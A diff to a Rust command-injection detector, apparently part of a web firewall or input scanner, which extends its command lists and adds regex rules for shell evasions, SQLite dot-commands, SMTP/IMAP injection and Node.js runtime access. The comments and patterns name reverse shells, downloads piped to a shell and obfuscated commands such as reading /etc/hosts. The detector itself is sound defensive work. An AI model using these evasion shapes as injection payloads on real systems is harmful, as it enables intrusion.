@@ -5,15 +5,17 @@
 //! argument shape (`-x`, `/path`, `$VAR`, redirection), or by a command that is dangerous with any
 //! argument (`wget`, `nc`, `whoami`, `powershell`). Shell evasions are undone first: quotes and
 //! backslashes inside words (`c'a't`, `c\at`), empty expansions (`$@`, `${x}`, `$u`, `; $a cat`)
-//! and `$IFS`. Commands run through a wrapper (`nohup`, `strace`, `sudo`) or from a variable
-//! assigned earlier (`c=cat; $c /etc/hosts`), wildcard paths (`/???/c?t`), redirections into
-//! system paths and `!cmd` shell escapes count too. Batch `FOR ... IN (...) DO` / `IF ... EQU`
+//! and `$IFS`; a command name split by quoting (`'c'url`, `who$()ami`), spelled by an ANSI-C
+//! string (`$'\143at'`) or a substring expansion (`${HOME:0:1}`), or glued to its separator
+//! against the spacing of prose (`x ;top`) counts on its own. Commands run through a wrapper
+//! (`nohup`, `strace`, `sudo`) or from a variable assigned earlier (`c=cat; $c /etc/hosts`),
+//! wildcard paths (`/???/c?t`), redirections into system paths and `!cmd` shell escapes count too. Batch `FOR ... IN (...) DO` / `IF ... EQU`
 //! blocks, reverse shells, Shellshock (a value that *starts* with `() {`), and Node.js / Perl
 //! code that reaches a shell (`require('child_process')`, `process.mainModule`, node-serialize
 //! markers, also base64-wrapped) are matched directly. Plain English (`; top of the morning`, `Tom & Jerry`) has separators and even
 //! command-like words, but not in that shape.
 
-use super::gate::{gated, in_sorted, lit, lower, skip_space, starts_word, word_at};
+use super::gate::{gated, in_sorted, is_word, lit, lower, skip_space, starts_word, word_at};
 use super::{in_markdown_code, is_json_text, stronger, swar, Check, Family, Hit, Rules, Subject, Trigger};
 use crate::fields::{Field, Part, ValueType};
 use crate::finding::Severity::{Critical, High, Medium};
@@ -28,15 +30,16 @@ pub(crate) struct Cmdi {
 }
 
 /// Plain JavaScript syntax (`function(){`, `module.exports =`, `console.log(`, `process.env`,
-/// `new Function(`): server-side code injection in a URL, header or form, but what a code snippet
+/// `new Function(`, `require('fs')`, `process.exit(`, `vm.runInNewContext(`, `this.constructor`): server-side code injection in a URL, header or form, but what a code snippet
 /// in a JSON text field (a gist, a support ticket) is made of, so only Medium there. What reaches
 /// the runtime or a shell (`child_process`, `process.mainModule`, `constructor.constructor`) is
 /// High anywhere.
-const JS_CODE: &str = r"\bnew\s+function\s*\(|module\s*\.\s*exports\s*=|\bconsole\s*(?:\.\s*[a-z]+|\[\s*['`][a-z]+['`]\s*\])\s*(?:\.\s*call\s*)?\(|\bfunction\s*\(\s*\)\s*\{|process\s*\.\s*env\b";
+const JS_CODE: &str = r"\bnew\s+function\s*\(|module\s*\.\s*exports\s*=|\bconsole\s*(?:\.\s*[a-z]+|\[\s*['`][a-z]+['`]\s*\])\s*(?:\.\s*call\s*)?\(|\bfunction\s*\(\s*\)\s*\{|process\s*\.\s*env\b|\brequire\s*\(\s*['`\x22]|\bprocess\s*\.\s*(?:exit|kill|abort|dlopen|chdir|setuid|setgid|umask|cwd)\s*\(|\bprocess\s*\.\s*(?:argv|execargv|execpath)\b|\bthis\s*\.\s*constructor\b|\bvm\s*\.\s*run(?:in(?:new|this)?context)?\s*\(|\bglobal(?:this)?\s*(?:\.\s*process\b|\[\s*['`\x22]process)";
 
 /// Commands that are an attack after a separator when an argument shape follows (also what the
-/// PHP check looks for in `system(...)`).
-pub(crate) const STRONG: &str = r"(?:whoami|uname|ifconfig|ipconfig|wget|curl|nc|ncat|netcat|socat|telnet|bash|sh|zsh|ksh|dash|csh|tcsh|python[23]?|perl|ruby|php|lua|irb|nslookup|dig|ping|passwd|shutdown|reboot|nohup|strace|ltrace|gdb|vim?|ex|gcc|c89|c99|cc|rmt|perf|pipx?|pip3|ansible(?:-[a-z]+)?|chef(?:-[a-z]+)?|cscli|cpulimit|flock|visudo|ssh-copy-id|uconv|lwp-(?:download|request)|tftp|mkfifo|chmod|chown|crontab|sudo|base64|xxd|powershell|pwsh|cmd|certutil|mshta|regsvr32|rundll32|bitsadmin|wmic|regedit|netsh|tasklist|taskkill|systeminfo|schtasks|bcdboot|bcdedit|cscript|wscript|msiexec|forfiles|nmap|env|top|id|rc|ll|systemctl|dd|awk|sed|xargs|busybox|timeout|time|sleep|net1?\s+(?:user|localgroup|view|use|share)|reg\s+(?:add|query|delete|save)|at\s+\d{1,2}(?::\d\d)?(?:\s*[ap]m)?|echo|cat|ls|rm|cp|mv|touch|kill|pkill|killall|ps|find|grep|head|tail|more|less|cut|sort|tr|tee|tar|zip|unzip|gzip|date|file|stat|type|dir|del|copy|set|export|unset|alias|source|exec|eval|git|docker|kubectl|openssl|ssh|scp|ftp|rsync|mount)";
+/// PHP check looks for in `system(...)`). The Windows administration tools among them (`icacls`,
+/// `vssadmin`, `wevtutil`, ...) are no word of English or of any other program.
+pub(crate) const STRONG: &str = r"(?:whoami|uname|ifconfig|ipconfig|wget|curl|nc|ncat|netcat|socat|telnet|bash|sh|zsh|ksh|dash|csh|tcsh|python[23]?|perl|ruby|php|lua|irb|nslookup|dig|ping|passwd|shutdown|reboot|nohup|strace|ltrace|gdb|vim?|ex|gcc|c89|c99|cc|rmt|perf|pipx?|pip3|ansible(?:-[a-z]+)?|chef(?:-[a-z]+)?|cscli|cpulimit|flock|visudo|ssh-copy-id|uconv|lwp-(?:download|request)|tftp|mkfifo|chmod|chown|crontab|sudo|base64|xxd|powershell|pwsh|cmd|certutil|mshta|regsvr32|rundll32|bitsadmin|wmic|regedit|netsh|tasklist|taskkill|systeminfo|schtasks|bcdboot|bcdedit|cscript|wscript|msiexec|forfiles|nmap|env|top|id|rc|ll|systemctl|dd|awk|sed|xargs|busybox|timeout|time|sleep|net1?\s+(?:user|localgroup|view|use|share)|reg\s+(?:add|query|delete|save)|at\s+\d{1,2}(?::\d\d)?(?:\s*[ap]m)?|echo|cat|ls|rm|cp|mv|touch|kill|pkill|killall|ps|find|grep|head|tail|more|less|cut|sort|tr|tee|tar|zip|unzip|gzip|date|file|stat|type|dir|del|copy|set|export|unset|alias|source|exec|eval|git|docker|kubectl|openssl|ssh|scp|ftp|rsync|mount|hostname|netstat|lsof|arp|mysql|psql|sqlite3|node|npm|npx|jrunscript|tclsh|hexdump|useradd|usermod|groupadd|chattr|lsb_release|sendmail|printf|uniq|tac|wc|od|df|du|ip|bc|xz|7z|7za|jq|ln|apt(?:-get)?|yum|dnf|rpm|dpkg|lsblk|lscpu|lspci|lsusb|lsmod|modprobe|insmod|rmmod|iptables|tcpdump|tshark|ldd|objdump|readelf|uptime|vmstat|iostat|dmesg|journalctl|chroot|chpasswd|getent|pwd|printenv|whereis|basename|dirname|readlink|realpath|mktemp|mkdir|rmdir|shred|md5sum|sha1sum|sha256sum|base32|zcat|zgrep|bzip2|bunzip2|gunzip|unxz|unrar|cpio|renice|tmux|doas|pkexec|runuser|setsid|unshare|nsenter|capsh|setcap|getcap|xterm|nano|emacs|lynx|w3m|aria2c|sftp|smbclient|rlogin|rsh|whois|traceroute|arping|hping3|masscan|sqlmap|msfconsole|msfvenom|icacls|cacls|takeown|vssadmin|wevtutil|wbadmin|esentutl|ntdsutil|nltest|dsquery|diskpart|fsutil|cmdkey|certreq|setx|robocopy|xcopy|makecab|mofcomp|pnputil|driverquery|gpresult|nbtstat|tracert|pathping|quser|qwinsta|winrm|winrs|dnscmd|attrib|wusa|dism|sdbinst|cmstp|msbuild|installutil|regasm|regsvcs|odbcconf|ieexec|presentationhost|msdt)";
 
 /// A value that starts with a configuration-management console or CLI (`ansible-console`,
 /// `chef-shell`, `cscli alerts list`).
@@ -57,23 +60,36 @@ const DANGEROUS: &str = r"(?:whoami|uname|ifconfig|ipconfig|wget|curl|nc|ncat|ne
 
 /// Command names for the trigger gates (a superset of [`STRONG`] as plain words). Sorted.
 const COMMANDS: &[&str] = &[
-    "alias", "ansible", "arp", "at", "awk", "base64", "bash", "bcdboot", "bcdedit", "bitsadmin", "busybox",
-    "c89", "c99", "call", "cat", "cc", "certutil", "chattr", "chef", "chmod", "chown", "cmd", "cmd.exe",
-    "copy", "cp", "cpulimit", "crontab", "cscli", "cscript", "csh", "curl", "cut", "dash", "date", "dd",
-    "del", "dig", "dir", "docker", "echo", "env", "eval", "ex", "exec", "expect", "export", "file", "find",
-    "flock", "forfiles", "ftp", "gcc", "gdb", "git", "grep", "groupadd", "gzip", "head", "hexdump",
-    "hostname", "id", "ifconfig", "ipconfig", "irb", "java", "jrunscript", "kill", "killall", "ksh",
-    "kubectl", "last", "less", "ll", "ls", "lsb_release", "lsof", "ltrace", "lua", "mail", "mkfifo", "more",
-    "mount", "mshta", "msiexec", "mv", "mysql", "nc", "ncat", "net", "net1", "netcat", "netsh", "netstat",
-    "nl", "nmap", "node", "nohup", "npm", "npx", "nslookup", "od", "openssl", "passwd", "perf", "perl", "php",
-    "ping", "pip", "pip3", "pipx", "pkill", "powershell", "powershell.exe", "printf", "ps", "psql", "pwsh",
-    "python", "python2", "python3", "rc", "reboot", "reg", "regedit", "regsvr32", "rev", "rm", "rmt", "route",
-    "rsync", "ruby", "rundll32", "schtasks", "scp", "sed", "sendmail", "set", "sh", "shutdown", "sleep",
-    "socat", "sort", "source", "sqlite3", "ss", "ssh", "start", "stat", "strace", "strings", "sudo",
-    "systemctl", "systeminfo", "tac", "tail", "tar", "taskkill", "tasklist", "tclsh", "tcsh", "tee", "telnet",
-    "tftp", "time", "timeout", "top", "touch", "tr", "type", "uconv", "uname", "uniq", "unset", "unzip",
-    "useradd", "usermod", "vi", "vim", "visudo", "w", "wc", "wget", "who", "whoami", "wish", "wmic",
-    "wscript", "xargs", "xxd", "zip", "zsh",
+    "7z", "7za", "alias", "ansible", "apt", "apt-get", "aria2c", "arp", "arping", "at", "attrib", "awk",
+    "base32", "base64", "basename", "bash", "bc", "bcdboot", "bcdedit", "bitsadmin", "bunzip2", "busybox",
+    "bzip2", "c89", "c99", "cacls", "call", "capsh", "cat", "cc", "certreq", "certutil", "chattr", "chef",
+    "chmod", "chown", "chpasswd", "chroot", "cmd", "cmd.exe", "cmdkey", "cmstp", "copy", "cp", "cpio",
+    "cpulimit", "crontab", "cscli", "cscript", "csh", "curl", "cut", "dash", "date", "dd", "del", "df", "dig",
+    "dir", "dirname", "diskpart", "dism", "dmesg", "dnf", "dnscmd", "doas", "docker", "dpkg", "driverquery",
+    "dsquery", "du", "echo", "emacs", "env", "esentutl", "eval", "ex", "exec", "expect", "export", "file",
+    "find", "flock", "forfiles", "fsutil", "ftp", "gcc", "gdb", "getcap", "getent", "git", "gpresult", "grep",
+    "groupadd", "gunzip", "gzip", "head", "hexdump", "hostname", "hping3", "icacls", "id", "ieexec",
+    "ifconfig", "insmod", "installutil", "iostat", "ip", "ipconfig", "iptables", "irb", "java", "journalctl",
+    "jq", "jrunscript", "kill", "killall", "ksh", "kubectl", "last", "ldd", "less", "ll", "ln", "ls",
+    "lsb_release", "lsblk", "lscpu", "lsmod", "lsof", "lspci", "lsusb", "ltrace", "lua", "lynx", "mail",
+    "makecab", "masscan", "md5sum", "mkdir", "mkfifo", "mktemp", "modprobe", "mofcomp", "more", "mount",
+    "msbuild", "msdt", "msfconsole", "msfvenom", "mshta", "msiexec", "mv", "mysql", "nano", "nbtstat", "nc",
+    "ncat", "net", "net1", "netcat", "netsh", "netstat", "nl", "nltest", "nmap", "node", "nohup", "npm",
+    "npx", "nsenter", "nslookup", "ntdsutil", "objdump", "od", "odbcconf", "openssl", "passwd", "pathping",
+    "perf", "perl", "php", "ping", "pip", "pip3", "pipx", "pkexec", "pkill", "pnputil", "powershell",
+    "powershell.exe", "presentationhost", "printenv", "printf", "ps", "psql", "pwd", "pwsh", "python",
+    "python2", "python3", "quser", "qwinsta", "rc", "readelf", "readlink", "realpath", "reboot", "reg",
+    "regasm", "regedit", "regsvcs", "regsvr32", "renice", "rev", "rlogin", "rm", "rmdir", "rmmod", "rmt",
+    "robocopy", "route", "rpm", "rsh", "rsync", "ruby", "rundll32", "runuser", "schtasks", "scp", "sdbinst",
+    "sed", "sendmail", "set", "setcap", "setsid", "setx", "sftp", "sh", "sha1sum", "sha256sum", "shred",
+    "shutdown", "sleep", "smbclient", "socat", "sort", "source", "sqlite3", "sqlmap", "ss", "ssh", "start",
+    "stat", "strace", "strings", "sudo", "systemctl", "systeminfo", "tac", "tail", "takeown", "tar",
+    "taskkill", "tasklist", "tclsh", "tcpdump", "tcsh", "tee", "telnet", "tftp", "time", "timeout", "tmux",
+    "top", "touch", "tr", "traceroute", "tracert", "tshark", "type", "uconv", "uname", "uniq", "unrar",
+    "unset", "unshare", "unxz", "unzip", "uptime", "useradd", "usermod", "vi", "vim", "visudo", "vmstat",
+    "vssadmin", "w", "w3m", "wbadmin", "wc", "wevtutil", "wget", "whereis", "who", "whoami", "whois", "winrm",
+    "winrs", "wish", "wmic", "wscript", "wusa", "xargs", "xcopy", "xterm", "xxd", "xz", "yum", "zcat",
+    "zgrep", "zip", "zsh",
 ];
 
 /// The command word at `i`, read the way a shell would after its evasions are undone: quotes,
@@ -89,6 +105,7 @@ fn command_word<'b>(b: &[u8], mut i: usize, buf: &'b mut [u8; 24]) -> &'b [u8] {
             b'\'' | b'"' | b'\\' => i += 1,
             b'$' if matches!(b.get(i + 1), Some(b'@' | b'*' | b'!' | b'_' | b'0'..=b'9')) => i += 2,
             b'$' if b.get(i + 1) == Some(&b'{') && b.get(i + 2) == Some(&b'}') => i += 3,
+            b'$' | b'`' if empty_substitution(b, i) > 0 => i += empty_substitution(b, i),
             b'/' => {
                 n = 0; // a path: keep only its last component
                 i += 1;
@@ -105,6 +122,55 @@ fn command_word<'b>(b: &[u8], mut i: usize, buf: &'b mut [u8; 24]) -> &'b [u8] {
         }
     }
     &buf[..n]
+}
+
+/// Whether the word at `i` hides a known command's name behind quotes, backslashes or empty
+/// expansions *inside* it (`'c'url`, `w\\hoami`, `wh$@oami`): a shell evasion, which no word of
+/// prose is. Names of three letters or more only (`I'd` is no `id`); a word merely quoted whole
+/// (`'ls'`) is not an evasion.
+fn hides_command(b: &[u8], i: usize) -> bool {
+    let (mut k, mut letters_before, mut evasion) = (i, false, false);
+    while k < b.len() && k - i < 48 {
+        let c = b[k];
+        let empty = empty_substitution(b, k);
+        if empty > 0 {
+            evasion |= letters_before;
+            k += empty;
+            continue;
+        }
+        if c <= b' ' || matches!(c, b';' | b'|' | b'&' | b'<' | b'>' | b'(' | b')' | b'`') {
+            break;
+        }
+        if c.is_ascii_alphanumeric() {
+            if evasion {
+                let mut buf = [0u8; 24];
+                let w = command_word(b, i, &mut buf);
+                return w.len() >= 3 && is_command(w);
+            }
+            letters_before = true;
+        } else if matches!(c, b'\'' | b'"' | b'\\' | b'$') && letters_before {
+            evasion = true;
+        }
+        k += 1;
+    }
+    false
+}
+
+/// The length of an empty command substitution at `i` (`$()`, two backquotes), which expands
+/// to nothing and so splits a command name without changing it (`who$()ami`); 0 if none.
+fn empty_substitution(b: &[u8], i: usize) -> usize {
+    match (b.get(i), b.get(i + 1), b.get(i + 2)) {
+        (Some(b'$'), Some(b'('), Some(b')')) => 3,
+        (Some(b'`'), Some(b'`'), _) => 2,
+        _ => 0,
+    }
+}
+
+/// The offset of the first command name hidden by [`hides_command`] where a shell reads a command:
+/// at the start of the value or after a separator (`;`, `|`, `&`, a line break, `` ` ``, `$(`).
+fn hidden_command(b: &[u8]) -> Option<usize> {
+    let starts = std::iter::once(0).chain(b.iter().enumerate().filter(|(_, c)| matches!(c, b';' | b'|' | b'&' | b'\n' | b'`' | b'(')).map(|(k, _)| k + 1));
+    starts.map(|k| skip_space(b, k)).find(|&k| hides_command(b, k))
 }
 
 /// Gate for a shell separator: a known command follows (past spaces, `{`, `(` and quotes).
@@ -227,7 +293,15 @@ fn batch_comparison(window: &[u8]) -> bool {
     false
 }
 
-/// Gate for an SQLite shell dot-command (`.shell`, `.system`, `.load`): at a line start (`.shell`, `.system`, `.load`).
+/// The SQLite shell's dot-commands that run programs, load code or read and write files
+/// (`.shell`, `.load`, `.output`, `.backup`), each also a trigger. An injection into a statement
+/// the `sqlite3` shell runs puts one at the start of a line or after `;`.
+const SQLITE_DOT_COMMANDS: &[&str] = &[
+    "archive", "backup", "clone", "databases", "dbinfo", "dump", "excel", "import", "iotrace", "load", "once", "open",
+    "output", "read", "recover", "restore", "save", "schema", "sh", "shell", "system", "tables",
+];
+
+/// Gate for an SQLite shell dot-command (`.shell`, `.system`, `.load`): at a line start or after `;`.
 fn sqlite_dot_command(b: &[u8], s: usize, e: usize) -> bool {
     let line_start = b[..s].iter().rev().take_while(|&&c| c != b'\n' && c != b';').all(|&c| c <= b' ');
     line_start && b.get(e).map_or(true, |c| !c.is_ascii_alphanumeric())
@@ -247,6 +321,13 @@ fn in_bin_dir(word: &[u8]) -> bool {
     .any(|d| word.len() > d.len() && word[..d.len()].eq_ignore_ascii_case(d.as_bytes()))
 }
 
+/// Gate for `${`: a substring expansion (`${HOME:0:1}`, `${PATH:-1}`) follows, not a template
+/// placeholder (`${name}`).
+fn substring_expansion(b: &[u8], _s: usize, e: usize) -> bool {
+    let name = b[e.min(b.len())..].iter().take(24).take_while(|&&c| is_word(c)).count();
+    b.get(e + name) == Some(&b':') && b.get(e + name + 1).is_some_and(|&c| c.is_ascii_digit() || c == b'-')
+}
+
 /// Gate for Node.js `process`: a member that reaches the runtime follows.
 fn process_member(b: &[u8], _s: usize, e: usize) -> bool {
     matches!(b.get(e), Some(b'.' | b'['))
@@ -254,20 +335,29 @@ fn process_member(b: &[u8], _s: usize, e: usize) -> bool {
 
 impl Cmdi {
     pub fn new() -> Result<Cmdi, String> {
-        // An argument shape: option, path, variable, redirection, glob, or end of the value. A `+`
+        // An argument shape: option (also after a subcommand: `install -y`), path (also `C:\`),
+        // variable, redirection, glob, or end of the value. A `+`
         // separates words where the value is URL-encoded form data (`;cat+/etc/passwd`).
-        let arg = r#"(?:[\s+]+[-/~.$<>*?{%"']|\s*[<>|;&`)]|\s+[a-z0-9_.-]+\s*[|;&<>`)]|\s+[a-z0-9_-]+\.[a-z0-9]{1,5}(?:\s|$)|\s*$)"#;
+        // `ends` are the separators that may close the command (`;id;`, `|id|`).
+        let arg = |ends: &str| format!(r#"(?:[\s+]+[-/~.$<>*?{{%"']|[\s+]+[a-z]:[\\/]|[\s+]+[a-z][a-z0-9_-]*[\s+]+--?[a-z]|\s*[<>{ends}`)]|\s+[a-z0-9_.-]+\s*[{ends}<>`)]|\s+[a-z0-9_-]+\.[a-z0-9]{{1,5}}(?:\s|$)|\s*$)"#);
         // A backquote is not a separator here: Markdown uses it for inline code; substitution is
         // matched on its own below.
         let sep = r"(?:[;|\n\r]|&&|&|\$\(|<\(|\|\|)";
         // A line break separates commands in a script, but also the lines of a document, a log
         // or a stack trace (`\n  File "/app/main.py", line 3`): in a JSON text field a command
         // word opening a line is only Medium; `;`, `|`, `&&` and `$(` inside a line stay strong.
-        let command_after = |sep: &str| format!(r"{sep}\s*(?:[{{(]\s*)?(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{STRONG})(?:\.exe)?\b{arg}");
-        let strong_after_sep = command_after(r"(?:[;|]|&&|&|\$\(|<\(|\|\|)");
-        let strong_on_a_line = command_after(r"[\n\r]");
+        let command_after = |sep: &str, arg: &str| format!(r"{sep}\s*(?:[{{(]\s*)?(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{STRONG})(?:\.exe)?\b{arg}");
+        // Between two pipes, words are a table's cell (`| date |`, `| file size |`), so a command
+        // after a pipe needs an argument shape of its own.
+        let strong_after_sep = format!("{}|{}", command_after(r"(?:;|&&|&|\$\(|<\(|\|\|)", &arg("|;&")), command_after(r"\|", &arg(";&")));
+        let strong_on_a_line = command_after(r"[\n\r]", &arg("|;&"));
         let any_after_sep = format!(r"{sep}\s*(?:[{{(]\s*)?(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{DANGEROUS})(?:\.exe)?(?:[\s)]|$)");
         let wrapped = format!(r"(?:^|{sep})\s*(?:sudo|nohup|strace|ltrace|nice|timeout\s+\d+[a-z]?|time|env|exec|xargs|watch|busybox)\s+(?:-\S+\s+)*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{DANGEROUS})\b");
+        // `x ;top`, `;ls`: a separator glued to the command after it but not to the word before
+        // it is how a shell line is typed; prose puts the space after the punctuation.
+        let glued = format!(r"(?:^|\s)(?:;|&&|\|\|?)(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{STRONG})(?:\.exe)?(?:\s|$)");
+        let start_redirect = format!(r#"^\s*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{STRONG})(?:\.exe)?\s*(?:<<<|<|>>?)\s*[/~$"']"#);
+        let ansi_c = format!(r"\$\{{[a-z_][a-z0-9_]*:-?\d+(?::-?\d+)?\}}|\$'(?:\\[0-7]{{1,3}})+'|(?:^|[\s;|&(`])\$'\s*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{STRONG})\b");
         let start_then_sep = format!(r"^\s*(?:{DANGEROUS})(?:\.exe)?\s*(?:[;|]|&&)");
         let start_cmd = format!(r"^\s*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{STRONG})(?:\.exe)?\s+(?:-[a-z-]|/[a-z.]|[a-z0-9_.-]+\.(?:sh|sql|zip|gz|txt|yml|py|pl|rb|exe|bat)\b|-c\b|install\b|all\b|report\b|dump\b|decrypt\b|[a-z]+\s+-)");
         // `$(` runs a command only when a command follows: `$(document)` is jQuery.
@@ -282,6 +372,7 @@ impl Cmdi {
         let brace_expansion = format!(
             r"\{{(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{STRONG}),(?:[^\s{{}},]*,)*[^\s{{}},]*[/.$~-][^\s{{}}]*\}}|\{{[a-z]*,(?:[a-z0-9]*,)*-[a-z0-9-]*(?:,[^\s{{}},]*)*\}}|\{{,[a-z0-9./-]+(?:,[a-z0-9./-]*)*\}}|\{{[a-z0-9./-]+(?:,[a-z0-9./-]+)*,\}}|[a-z]\{{[a-z0-9]*,[a-z0-9]*(?:,[a-z0-9]*)*\}}[a-z]"
         );
+        let sqlite = format!(r"(?:^|[;\n])\s*\.(?:{})\b", SQLITE_DOT_COMMANDS.join("|"));
         let table = [
             (base64_js.as_str(), Critical, 0.9, "base64-encoded server-side JavaScript"),
             // Bash imports a function from any variable whose value *starts* with `() {`.
@@ -290,7 +381,7 @@ impl Cmdi {
             // `0>&1` ties the shell's input to its output socket; `2>&1` is every script's stderr.
             (r"/dev/(?:tcp|udp)/|\b(?:bash|sh)\s+-i\b|\bnc(?:at)?\b[^|;]*\s-[a-z]*e\s|\bmkfifo\b|(?:^|[^0-9])0>&\d|\bexec\s+\d*<>", Critical, 0.95, "reverse shell"),
             (r"\b(?:curl|wget|fetch)\b[^|;]*\|\s*(?:ba|z|k)?sh\b", Critical, 0.95, "download piped to a shell"),
-            (r"(?:require\s*\(\s*['`]child_process['`]\s*\)|child_process|process\s*\.\s*(?:mainmodule|binding|\[)|process\[|process\s*\[\s*['`\x22]|_\$\$nd_func\$\$_|\bconstructor\s*\.\s*constructor\b|\brequire\s*\.\s*main\b|\brequire\s*\[|__js_function|\beval\s*\(\s*string\s*\.\s*fromcharcode)", High, 0.85, "server-side JavaScript code injection"),
+            (r"(?:require\s*\(\s*['`]child_process['`]\s*\)|child_process|process\s*\.\s*(?:mainmodule|binding|\[)|process\[|process\s*\[\s*['`\x22]|_\$\$nd_func\$\$_|\bconstructor\s*\.\s*constructor\b|\brequire\s*\.\s*main\b|\brequire\s*\[|__js_function|\beval\s*\(\s*string\s*\.\s*fromcharcode|\beval\s*\(\s*(?:atob|unescape|decodeuricomponent|buffer\s*\.\s*from|require|process)\b)", High, 0.85, "server-side JavaScript code injection"),
             (JS_CODE, Medium, 0.6, "JavaScript code"),
             (r"<!--\s*#\s*(?:exec|include|echo|config|printenv)\b", Critical, 0.9, "server-side include"),
             (r#"\bfor\s+(?:/[a-z]\s+)*(?:(?:["'][^"']*["']|[a-z]:\\\S*)\s+)?%%?\S+\s+in\s*\(.*\)\s*do\b"#, High, 0.85, "Windows batch FOR loop"),
@@ -299,22 +390,27 @@ impl Cmdi {
             (strong_on_a_line.as_str(), Medium, 0.6, "command word opening a line of text"),
             (any_after_sep.as_str(), Critical, 0.9, "dangerous command after a shell separator"),
             (wrapped.as_str(), High, 0.85, "command run through a wrapper"),
+            (glued.as_str(), High, 0.8, "command glued to a shell separator"),
             (start_then_sep.as_str(), High, 0.8, "command line"),
             (r"(?:^|[;&|\s])[a-z_][a-z0-9_]*=[^\s;&|]*\s*(?:[;|\n]|&&|\|\|)(?:.*(?:[;|\n]|&&|\|\|))?\s*\$\{?[a-z_][a-z0-9_]*\}?(?:\s|$)", High, 0.8, "command from an assigned variable"),
             (r"(?:^|[\s;|&=<>(`+])/(?:(?:[a-z0-9]+[?*]|\*?\?|\*+[a-z0-9])[a-z0-9?*]*/[a-z0-9?*]+|(?:s?bin|usr|etc|dev|proc|tmp|var|home|root)/(?:[a-z0-9]+[?*]|[?*]+[a-z0-9])[a-z0-9?*]*(?:[\s/;|]|$))", High, 0.8, "wildcards in a system path"),
             (substitution.as_str(), Critical, 0.85, "command substitution"),
             (r"(?:^|\s)(?:ba|z|k)?sh\s+-c\b|\bcmd(?:\.exe)?\s+/[ck]\b|\bpowershell(?:\.exe)?\s+-(?:c|e|enc|nop|w|command|exec)", High, 0.85, "shell invoked with a command"),
             (start_cmd.as_str(), High, 0.7, "command line"),
+            (start_redirect.as_str(), High, 0.8, "command line with a redirection"),
             // A value that starts with a program in a system binary directory and its arguments.
             (r"^\s*/(?:usr/)?(?:local/)?s?bin/[a-z0-9_.+-]+\s+[-/$~]", High, 0.8, "command line by absolute path"),
             (r"(?:^|[;|&])\s*\d*>>?\s*/(?:tmp|dev|etc|var|usr|s?bin|home|root|proc)/\S", High, 0.8, "redirection into a system path"),
             (shell_escape.as_str(), High, 0.8, "shell escape"),
-            (r"[;|&`]\s*[a-z]{1,4}\s*\{?[^}\s]*\}?\s*(?:<<<|>>?\s*/)", High, 0.8, "shell redirection"),
+            (r"[;|&`(]\s*[a-z]{1,4}\s*\{?[^}\s]*\}?\s*(?:<<<|>>?\s*/)", High, 0.8, "shell redirection"),
+            // `${HOME:0:1}` (a `/` cut from a variable), `$'\143\141\164'`: only a shell spells
+            // characters so; `$'\x63at'` reads `$'cat'` once the escapes are decoded.
+            (ansi_c.as_str(), High, 0.8, "shell expansion spelling characters"),
             (brace_expansion.as_str(), High, 0.7, "brace expansion"),
-            (r"(?:^|[;|&\s])~[+-]\d*$", High, 0.7, "tilde expansion"),
+            (r"(?:^|[;|&\s])~[+-]\d*(?:$|/|\s*[;|&])", High, 0.7, "tilde expansion"),
             (r"@\s*\{\s*\[.*\]\s*\}?|@\{\[", High, 0.8, "Perl interpolation"),
-            (r"(?:\r?\n|^)\s*(?:mail\s+from|rcpt\s+to)\s*:|\r?\n\s*[a-z]{1,4}\d{1,4}\s+(?:append|status|authenticate|uid|login|select|fetch|store)\b", High, 0.75, "SMTP/IMAP command injection"),
-            (r"(?:^|[;\n])\s*\.(?:shell|sh|system|databases|import|load)\b", High, 0.8, "SQLite shell command"),
+            (r"(?:\r?\n|^)\s*(?:mail\s+from|rcpt\s+to)\s*:|\r?\n\s*(?:helo|ehlo|vrfy|expn)\s+[a-z0-9<@.-]|\r?\n\s*[a-z]{1,4}\d{1,4}\s+(?:authenticate|uid|login|expunge|lsub|capability|logout|starttls|getquota|getquotaroot|setquota|getacl|setacl|myrights|listrights)\b|\r?\n\s*[a-z]{1,4}\d{1,4}\s+(?:append|status|select|examine|fetch|store)\s+[^\r\n]*?(?:\binbox\b|[({\x22\\]|\d:|[+-]flags)", High, 0.75, "SMTP/IMAP command injection"),
+            (sqlite.as_str(), High, 0.8, "SQLite shell command"),
         ];
         Ok(Cmdi {
             rules: Rules::new(Family::Cmdi, &table)?,
@@ -326,6 +422,8 @@ impl Cmdi {
                     // Ansible, Chef and CrowdSec consoles run anything on every managed host;
                     // their hyphenated names are no word of prose.
                     (AUTOMATION_TOOL, High, 0.7, "automation tool command line"),
+                    // An SMTP verb alone on a line after a line break: a line of an SMTP session.
+                    (r"\r?\n\s*(?:data|quit|rset|noop)\s*(?:\r?\n|$)", High, 0.7, "SMTP command injection"),
                     // Batch `IF a==b command` with any command: in a URL, header or form there is
                     // no script for it to be a line of.
                     (r"\bif\s+(?:/i\s+)?(?:not\s+)?[^\s=]+\s*==\s*[^\s=]+\s+[a-z@(]", High, 0.7, "Windows batch IF"),
@@ -337,7 +435,7 @@ impl Cmdi {
 
 /// Undoes shell-level obfuscation: quotes and backslashes inside words, empty expansions.
 fn shell_fold(text: &str) -> Cow<'_, str> {
-    if !text.bytes().any(|c| matches!(c, b'\'' | b'"' | b'\\' | b'$')) {
+    if !text.bytes().any(|c| matches!(c, b'\'' | b'"' | b'\\' | b'$' | b'`')) {
         return Cow::Borrowed(text);
     }
     let b = text.as_bytes();
@@ -346,6 +444,7 @@ fn shell_fold(text: &str) -> Cow<'_, str> {
     while i < b.len() {
         match b[i] {
             b'\'' | b'"' => i += 1,
+            b'$' | b'`' if empty_substitution(b, i) > 0 => i += empty_substitution(b, i),
             b'\\' if b.get(i + 1).is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'/') => i += 1,
             b'$' => match b.get(i + 1) {
                 Some(b'@' | b'*' | b'!' | b'?' | b'-' | b'_' | b'$' | b'0'..=b'9') => i += 2,
@@ -432,6 +531,12 @@ impl Check for Cmdi {
             lit("noawxkx3by"),
             lit("jaglszf9wc"),
             lit("constructor"),
+            lit("runinnewcontext"),
+            lit("runinthiscontext"),
+            lit("runincontext"),
+            lit("globalthis"),
+            lit("global.process"),
+            lit("global["),
             lit("module.exports"),
             gated("console", process_member),
